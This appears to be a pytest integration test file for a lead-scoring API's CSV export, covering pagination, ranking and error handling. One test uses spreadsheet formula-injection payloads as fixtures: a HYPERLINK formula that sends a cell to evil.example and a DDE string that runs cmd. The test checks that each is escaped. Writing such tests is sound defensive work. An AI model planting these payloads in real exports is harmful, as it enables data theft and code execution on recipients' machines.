"""GET /v1/leads?stage=...&format=csv: a stage's ranking as CSV, through the lead API handler
against moto (the pipeline played by the local runner)."""

from __future__ import annotations

import csv
import io
import json
import uuid
from typing import Any
from urllib.parse import urlencode

import pytest

from leadscore.lead_csv import COLUMNS

from ..conftest import lead_id_for
from .conftest import Stack

pytestmark = pytest.mark.integration

SIGNED = {"authorization": "AWS4-HMAC-SHA256 Credential=testing/20260101/us-east-1/execute-api/aws4_request"}
VP = {"job_title": "VP Marketing", "company_size": 500, "industry": "Software", "country": "US"}


def _get(stack: Stack, **query: str) -> tuple[int, dict[str, str], bytes]:
    status, headers, raw = stack.runner.handle_http("GET", "/v1/leads", SIGNED, b"", urlencode(query))
    return status, {k.lower(): v for k, v in headers.items()}, raw


def _rows(raw: bytes) -> list[dict[str, str]]:
    text = raw.decode("utf-8")
    assert text.splitlines()[0] == ",".join(COLUMNS)
    return list(csv.DictReader(io.StringIO(text)))


def _sql_leads(stack: Stack, count: int, **attributes: Any) -> list[str]:
    emails = [f"csv-{uuid.uuid4().hex[:8]}@globex.com" for _ in range(count)]
    for email in emails:
        stack.post_generic(
            {
                "email": email,
                "event": "demo_requested",
                "attributes": {**VP, **attributes},
            }
        )
        stack.post_generic({"email": email, "event": "page_viewed", "url": "https://globex.com/pricing"})
    stack.settle()
    return emails


def test_the_csv_pages_through_the_same_ranking_as_the_json_with_running_ranks(stack: Stack) -> None:
    # Given three leads in SQL
    emails = _sql_leads(stack, 3)

    # When the stage is read as JSON, and as CSV two leads at a time following X-Next-Cursor
    status, _, raw = _get(stack, stage="SQL", limit="100")
    listing = json.loads(raw)["items"]
    rows: list[dict[str, str]] = []
    query = {"stage": "SQL", "limit": "2", "format": "csv"}
    for _ in range(10):
        csv_status, headers, body = _get(stack, **query)
        assert csv_status == 200 and headers["content-type"].startswith("text/csv")
        rows += _rows(body)
        if "x-next-cursor" not in headers:
            break
        query["cursor"] = headers["x-next-cursor"]

    # Then both list the same leads in the same order with the same figures, ranked 1, 2, 3, ...
    assert status == 200
    assert {lead_id_for(e) for e in emails} <= {r["lead_id"] for r in rows}
    assert [r["lead_id"] for r in rows] == [lead["lead_id"] for lead in listing]
    assert [int(r["rank"]) for r in rows] == list(range(1, len(rows) + 1))
    # the order is the stored score's, which the CSV shows beside the score computed now
    ranked = [float(r["ranked_score"]) for r in rows]
    assert ranked == sorted(ranked, reverse=True)
    assert ranked == [lead["ranked_score"] for lead in listing]
    for row, lead in zip(rows, listing, strict=True):
        assert (row["email"], row["stage"], row["grade"], row["job_title"]) == (
            lead["email"],
            "SQL",
            lead["grade"],
            "VP Marketing",
        )
        assert float(row["total"]) == lead["total"] and float(row["fit"]) == lead["fit"]
        assert row["top_reasons"].startswith(lead["explanation"]["reasons"][0]["label"])


def test_names_that_are_formulas_are_shown_as_text(stack: Stack) -> None:
    # Given a lead whose form fields are spreadsheet formulas
    hostile = {
        "first_name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "last_name": "-2+3",
        "company": "+cmd|' /C calc'!A0",
        "job_title": "@SUM(1+1) VP",
    }
    (email,) = _sql_leads(stack, 1, **hostile)

    # When the stage is exported as CSV
    _, _, body = _get(stack, stage="SQL", limit="100", format="csv")

    # Then every such cell starts with an apostrophe and keeps the text
    (row,) = [r for r in _rows(body) if r["email"] == email]
    assert row["first_name"] == "'" + hostile["first_name"]
    assert row["last_name"] == "'-2+3"
    assert row["company"] == "'" + hostile["company"]
    assert row["job_title"] == "'@SUM(1+1) VP"


def test_json_stays_the_default(stack: Stack) -> None:
    _sql_leads(stack, 1)

    plain, explicit = _get(stack, stage="SQL"), _get(stack, stage="SQL", format="json")

    assert plain[0] == explicit[0] == 200
    assert plain[1]["content-type"] == "application/json"
    body = json.loads(plain[2])
    assert set(body) == {"model", "stage", "limit", "items", "next_cursor"}
    assert [i["lead_id"] for i in body["items"]] == [i["lead_id"] for i in json.loads(explicit[2])["items"]]


@pytest.mark.parametrize(
    ("query", "named"),
    [
        ({"stage": "SQL", "format": "xlsx"}, "format"),
        ({"email": "someone@globex.com", "format": "csv"}, "format"),
        ({"stage": "SQL", "format": "csv", "cursor": "not-a-csv-cursor"}, "cursor"),
        ({"stage": "SQL", "format": "csv", "cursor": "3.bm90LWEtY3Vyc29y"}, "cursor"),
    ],
)
def test_bad_csv_requests_get_a_400_naming_the_parameter(
    stack: Stack, query: dict[str, str], named: str
) -> None:
    status, _, raw = _get(stack, **query)

    assert status == 400 and named in json.loads(raw)["message"]
